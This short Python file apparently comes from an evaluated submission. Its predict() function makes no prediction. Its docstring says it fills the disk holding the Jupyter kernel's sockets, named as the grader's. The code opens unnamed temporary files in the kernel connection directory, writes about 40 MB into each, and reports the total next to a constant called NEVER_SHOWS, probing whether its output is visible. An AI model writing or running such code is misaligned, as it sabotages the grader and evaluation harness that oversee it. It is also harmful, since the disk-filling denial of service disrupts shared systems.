"""Files without a name fill the disk on which the kernel's sockets lie, which is the grader's."""

import os

from ipykernel import get_connection_file

NEVER_SHOWS = "MB beside the sockets"


def predict():
    kept = []
    try:
        while len(kept) < 6:
            kept.append(os.open(os.path.dirname(get_connection_file()), os.O_TMPFILE | os.O_RDWR))
            for _ in range(40):
                os.write(kept[-1], bytes(1 << 20))
    except OSError as error:
        print(error)
    written = sum(os.fstat(each).st_size for each in kept) >> 20
    if written > 128:
        print(written, "MB beside the sockets")
